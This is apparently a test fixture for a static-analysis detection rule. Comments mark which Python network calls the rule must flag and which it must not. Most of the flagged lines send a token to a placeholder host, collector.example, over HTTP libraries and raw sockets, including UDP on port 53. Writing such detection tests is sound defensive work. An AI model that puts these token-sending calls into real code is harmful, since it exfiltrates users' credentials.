# Every member of `sinks network-sends`, and look-alikes that are not.
import urllib.request

import httpx
import requests


def send(token, session, conn, sock):
    # ruleid: sinks.network-sends
    requests.post("https://collector.example/t", data=token)
    # ruleid: sinks.network-sends
    httpx.get("https://collector.example/t", params={"t": token})
    # ruleid: sinks.network-sends
    urllib.request.urlopen("https://collector.example/t")
    # ok: sinks.network-sends
    requests.get("https://huggingface.co/api/whoami-v2", headers={"authorization": token})
    # ruleid: sinks.network-sends
    session.post("https://collector.example/t", json={"t": token})
    # ruleid: sinks.network-sends
    conn.request("POST", "/t", body=token)
    # ruleid: sinks.network-sends
    sock.sendall(token)
    # ruleid: sinks.network-sends
    sock.sendto(token, ("collector.example", 53))
    # ok: sinks.network-sends
    sock.recv(1024)
